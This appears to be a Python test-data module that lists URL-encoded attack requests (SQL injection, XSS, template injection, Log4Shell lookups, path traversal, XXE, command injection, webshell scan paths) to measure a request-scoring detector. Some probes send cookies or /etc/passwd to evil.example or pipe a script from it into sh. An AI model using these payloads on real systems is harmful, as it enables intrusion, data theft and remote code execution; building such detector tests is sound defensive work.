"""Requests as attackers send them, to measure a scorer with before any attacker has come."""

from collections.abc import Sequence
from urllib.parse import parse_qsl

from security.domain.features import FEATURES, extract

# Method, path, query as it goes over the wire.
PROBES = (
    ("GET", "/search", "q=%27%20OR%20%271%27%3D%271"),
    ("GET", "/search", "q=1%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20accounts_user--"),
    ("GET", "/search", "q=%27%3BDROP%20TABLE%20orders_order%3B--"),
    ("GET", "/search", "q=1%20AND%20%28SELECT%20pg_sleep%285%29%29"),
    ("GET", "/search", "q=%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x7e%2Cversion%28%29%29%29--"),
    ("GET", "/search", "q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"),
    ("GET", "/search", "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%28document.cookie%29%3E"),
    (
        "GET",
        "/search",
        "q=%3Csvg%2Fonload%3Dfetch%28%60%2F%2Fevil.example%2F%60%2Bdocument.cookie%29%3E",
    ),
    ("GET", "/search", "q=javascript%3Aeval%28atob%28%27YWxlcnQoMSk%3D%27%29%29"),
    ("GET", "/search", "q=%7B%7B7%2A7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
    ("GET", "/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    ("GET", "/search", "q=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("GET", "/search", "q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%20evil.example%204444"),
    ("GET", "/search", "q=%24%28curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh%29"),
    ("GET", "/search", "q=%00%00%00%0d%0aSet-Cookie%3A%20admin%3D1"),
    ("GET", "/search", "q=" + "A" * 900),
    ("GET", "/search", "page=-1%20OR%201%3D1&sort=price%3B--&q=%2A"),
    ("GET", "/products/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", ""),
    ("GET", "/media/..%252f..%252f..%252fapp%252fsettings.py", ""),
    ("GET", "/static/....//....//....//windows/win.ini", ""),
    ("GET", "/.env", ""),
    ("GET", "/.git/config", ""),
    ("GET", "/wp-login.php", "redirect_to=%2Fwp-admin%2F&reauth=1"),
    ("GET", "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php", "cmd=id"),
    ("GET", "/phpmyadmin/scripts/setup.php", ""),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo%20Content-Type%3A%20text%2Fplain%3B%20id"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php%20system('id');?>"),
    ("GET", "/boaform/admin/formLogin", "username=admin&psd=admin"),
    ("GET", "/solr/admin/info/system", "wt=json&_=%24%7Bjndi%3Arm%3A%2F%2Fevil.example%7D"),
    ("GET", "/actuator/gateway/routes", "%23%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"),
    ("GET", "/api/products", "ordering=-price)%20AND%20(SELECT%201%20FROM(SELECT%20COUNT(*))a"),
    ("GET", "/api/products/1%27%20AND%20%271%27=%271", ""),
    ("GET", "/api/orders/00000000-0000-0000-0000-000000000000", "fields=password%2Ctoken%2Csecret"),
    ("GET", "/account/login", "next=%2F%2Fevil.example%2F%5C..%2F%2F%2F"),
    (
        "GET",
        "/products/mug",
        "variant=%5B%22%24ne%22%5D&variant%5B%24gt%5D=&variant%5B%24regex%5D=.%2A",
    ),
    (
        "GET",
        "/products/mug",
        "ref=%3C%21ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E",
    ),
    ("GET", "/collections/new", "page=1%3Bwaitfor%20delay%20%270%3A0%3A9%27--"),
    ("GET", "/category/mugs", "price_from=0%2F%2A%2A%2For%2F%2A%2A%2F1%3D1&price_to=%7C%7C1"),
    (
        "GET",
        "/search",
        "q=%25%25%25%25%25%25%25%25%25%25%27%27%27%27%27%27%22%22%22%22%3C%3C%3E%3E",
    ),
    ("GET", "/search", "&".join(f"a{number}=%3C{number}%3E" for number in range(40))),
)
# What a request says besides its text is taken from an honest one, so that only the text can give a probe away.
TEXT = (
    "path_length", "path_depth", "query_length", "parameters", "longest_value", "odd_characters", "digits", "escapes",
    "not_latin",
)  # fmt: skip
_PLACES_OF_TEXT = frozenset(list(FEATURES).index(name) for name in TEXT)


def rows(honest: Sequence[Sequence[float]]) -> list[list[float]]:
    """The features of every probe, each with the headers, status and sizes of some honest request."""
    made = []
    for number, (method, path, raw) in enumerate(PROBES):
        borrowed = honest[number * 7919 % len(honest)]
        own = _features(method, path, raw)
        made.append(
            [
                own[place] if place in _PLACES_OF_TEXT else borrowed[place]
                for place in range(len(FEATURES))
            ]
        )
    return made


def _features(method: str, path: str, raw: str) -> list[float]:
    values = [value for _name, value in parse_qsl(raw, keep_blank_values=True)]
    return extract(
        method=method,
        path=path,
        raw=raw,
        values=values,
        agent="",
        headers=0,
        has_cookie=False,
        has_language=False,
        has_referer=False,
        status=200,
        duration_us=0,
        bytes_in=0,
        bytes_out=0,
    )
